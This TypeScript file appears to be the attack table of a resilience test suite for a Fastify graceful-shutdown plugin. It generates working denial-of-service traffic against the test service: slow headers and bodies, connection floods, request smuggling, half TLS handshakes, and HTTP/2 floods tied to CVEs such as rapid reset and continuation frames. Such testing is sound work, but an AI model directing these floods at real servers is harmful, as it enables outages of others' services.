// The attacks. Each goes on before, through and after the shutdown.

import type { GracefulOptions } from '../../index.ts'
import type { Crowd } from './crowd.ts'
import type { Protocol } from './target.ts'
import type { Socket } from 'node:net'
import { connect as connectTls } from 'node:tls'
import { Duplex } from 'node:stream'
import { endless, frame, get, literal, post, reset, START, windowUpdate } from '../http2.ts'
import { FORMS } from './smuggling.ts'

export interface Attack {
  /** What the clients do, for the table. */
  what: string
  protocol: Protocol
  /** How many connections it keeps. */
  size: number
  /** The same for a short run. */
  short?: number
  /** Options of the plugin for this attack. */
  options?: GracefulOptions
  /** What `Counts.sent` counts. */
  unit?: string
  /** Whether it holds accepted requests, so that the drain may take until its timeout, and cut them: the exit code may be 1. */
  holds?: boolean
  /** The first major version of Node that survives it: those before corrupt their heap, also without Fastify. */
  sinceNode?: number
  /** Whether probes answer it: they are answered also while draining. */
  isProbe?: boolean
  /**
   * MiB by which the peak memory may exceed that of the idle service: while running and in the shutdown. Half again what the attack
   * takes on a machine without other load, because the faster the clients are, the more garbage waits for its collection.
   */
  memory: number
  start: (crowd: Crowd, size: number) => void
}

/** Milliseconds between two pieces of what comes slowly: each is well within readTimeout. */
const DRIP = 100
const GET = 'GET / HTTP/1.1\r\nHost: x\r\n\r\n'
const CHUNK = `10000\r\n${'x'.repeat(0x10000)}\r\n`

/** The first message of a TLS client, as one writes it. */
const clientHello = await new Promise<Buffer>(resolve => {
  const socket = new Duplex({
    read () {},
    write (chunk: Buffer, _encoding, done) {
      resolve(chunk)
      done()
    }
  })
  connectTls({ socket, servername: 'localhost' }).on('error', () => {})
})

export const ATTACKS: Record<string, Attack> = {
  'slow headers': {
    what: 'send a header line each 100 ms, endlessly',
    protocol: 'http', size: 1_000, short: 500, memory: 60,
    start (crowd, size) {
      crowd.keep(size, socket => { socket.write('GET / HTTP/1.1\r\nHost: x\r\n') })
      crowd.each(DRIP, socket => {
        crowd.counts.sent++
        socket.write('X-Slow: x\r\n')
      })
    },
    unit: 'header lines'
  },
  'slow bodies': {
    what: 'send a byte of a body each 100 ms',
    protocol: 'http', size: 1_000, short: 500, holds: true, memory: 150,
    start (crowd, size) {
      crowd.keep(size, socket => { socket.write('POST /json HTTP/1.1\r\nHost: x\r\nContent-Type: text/plain\r\nContent-Length: 100000\r\n\r\n') })
      crowd.each(DRIP, socket => {
        crowd.counts.sent++
        socket.write('x')
      })
    },
    unit: 'bytes'
  },
  'silent connections': {
    what: 'connect, and send nothing',
    // With a longer readTimeout, so that all of them are open at the same time.
    protocol: 'http', size: 10_000, short: 2_000, options: { readTimeout: 10_000 }, memory: 200,
    start (crowd, size) { crowd.keep(size, () => {}) }
  },
  'resets': {
    what: 'connect, send nothing, half a request, or a request, and reset the connection',
    protocol: 'http', size: 200, memory: 150,
    start (crowd, size) {
      crowd.keep(size, socket => {
        const { sent } = crowd.counts
        crowd.counts.sent++
        const text = ['', GET.slice(0, 20), GET, 'POST /upload HTTP/1.1\r\nHost: x\r\nContent-Type: application/octet-stream\r\nContent-Length: 9\r\n\r\nhalf'][sent % 4]
        socket.write(text ?? '', () => { socket.resetAndDestroy() })
      })
    },
    unit: 'resets'
  },
  'new connections': {
    what: 'send one request over each connection, and connect again',
    protocol: 'http', size: 200, memory: 150,
    start (crowd, size) {
      crowd.keep(size, socket => {
        crowd.counts.sent++
        socket.write('GET / HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n')
      })
    },
    unit: 'requests'
  },
  'endless uploads': {
    what: 'upload without an end, as fast as possible',
    protocol: 'http', size: 64, holds: true, memory: 200,
    start (crowd, size) {
      crowd.keep(size, socket => {
        socket.write('POST /upload HTTP/1.1\r\nHost: x\r\nContent-Type: application/octet-stream\r\nTransfer-Encoding: chunked\r\n\r\n')
        crowd.flood(socket, () => CHUNK)
      })
    },
    unit: 'chunks of 64 KiB'
  },
  'pipelines': {
    what: 'send 5,000 requests at once, endlessly, without waiting for answers',
    protocol: 'http', size: 4, memory: 300,
    // Node writes thousands of responses in one iteration of the event loop, which takes seconds on a slow machine, and closing needs some.
    options: { shutdownTimeout: 30_000 },
    start (crowd, size) {
      const pipeline = GET.repeat(5_000)
      crowd.keep(size, socket => { crowd.flood(socket, () => pipeline) })
    },
    unit: 'pipelines'
  },
  'unread answers': {
    what: 'ask for 256 KiB 30 times, and read nothing',
    protocol: 'http', size: 30, holds: true, memory: 200,
    start (crowd, size) {
      const pipeline = GET.replace('/', '/large').repeat(30)
      crowd.keep(size, socket => {
        crowd.counts.sent += 30
        socket.pause().write(pipeline)
      })
    },
    unit: 'requests'
  },
  'smuggling': {
    what: `send requests that hide another one, in ${Object.keys(FORMS).length} forms`,
    protocol: 'http', size: 32, memory: 60,
    start (crowd, size) {
      const forms = Object.values(FORMS)
      crowd.keep(size, socket => {
        socket.setTimeout(500, () => { socket.destroy() })
        socket.write(forms[crowd.counts.sent++ % forms.length] ?? '')
      })
    },
    unit: 'requests'
  },
  'probes': {
    what: 'send 20 probes at once, and one more for each answer',
    protocol: 'http', size: 100, isProbe: true, memory: 200,
    start (crowd, size) {
      const probe = (socket: Socket, count: number) => {
        for (let index = 0; index < count; index++) socket.write(GET.replace('/', crowd.counts.sent++ % 2 === 0 ? '/health' : '/ready'))
      }
      crowd.keep(size, socket => { probe(socket, 20) }, probe)
    },
    unit: 'probes'
  },
  'unfinished handshakes': {
    what: 'send nothing, half of a TLS ClientHello, or one and nothing more',
    protocol: 'https', size: 1_000, short: 500, memory: 130,
    start (crowd, size) {
      crowd.keep(size, socket => { socket.write(clientHello.subarray(0, clientHello.length * (crowd.counts.sent++ % 3) / 2)) })
    }
  },
  'HTTP/2: silent connections': {
    what: 'connect, and send nothing, or begin a session and send no request',
    protocol: 'h2c', size: 2_000, short: 500, memory: 160,
    start (crowd, size) { crowd.keep(size, socket => { if (crowd.counts.sent++ % 2 === 0) socket.write(START) }) }
  },
  'HTTP/2: rapid reset': {
    what: 'open streams, and reset each at once (CVE-2023-44487)',
    protocol: 'h2c', size: 4, sinceNode: 22, memory: 250,
    start (crowd, size) {
      crowd.keep(size, socket => {
        socket.write(START)
        let stream = -1
        crowd.flood(socket, () => Buffer.concat(Array.from({ length: 100 }, () => {
          stream += 2
          return Buffer.concat([get(stream), reset(stream)])
        })))
      })
    },
    unit: 'times 100 streams'
  },
  'HTTP/2: settings': h2Flood('send settings, and read no acknowledgement (CVE-2019-9515)', frame('settings', 0, 0)),
  'HTTP/2: pings': h2Flood('send pings, and read no acknowledgement (CVE-2019-9512)', frame('ping', 0, 0, Buffer.alloc(8))),
  'HTTP/2: window updates': h2Flood('open windows by one octet, of the session and of a stream', Buffer.concat([windowUpdate(0), windowUpdate(1)])),
  'HTTP/2: empty data': h2Flood('send empty data frames (CVE-2019-9518)', frame('data', 0, 1)),
  'HTTP/2: continuations': {
    what: 'send headers without an end (CVE-2024-27983)',
    protocol: 'h2c', size: 20, memory: 150,
    start (crowd, size) {
      crowd.keep(size, socket => {
        socket.write(Buffer.concat([START, endless(1)]))
        crowd.flood(socket, () => frame('continuation', 0, 1, literal(16_000)))
      })
    },
    unit: 'frames'
  }
}

/** Floods sessions with one open request. */
function h2Flood (what: string, one: Buffer): Attack {
  const batch = Buffer.concat(Array.from({ length: 500 }, () => one))
  return {
    what,
    protocol: 'h2c', size: 20, holds: true, memory: 150,
    start (crowd, size) {
      crowd.keep(size, socket => {
        if (what.includes('read no')) socket.pause()
        socket.write(Buffer.concat([START, post(1)]))
        crowd.flood(socket, () => batch)
      })
    },
    unit: 'times 500 frames'
  }
}
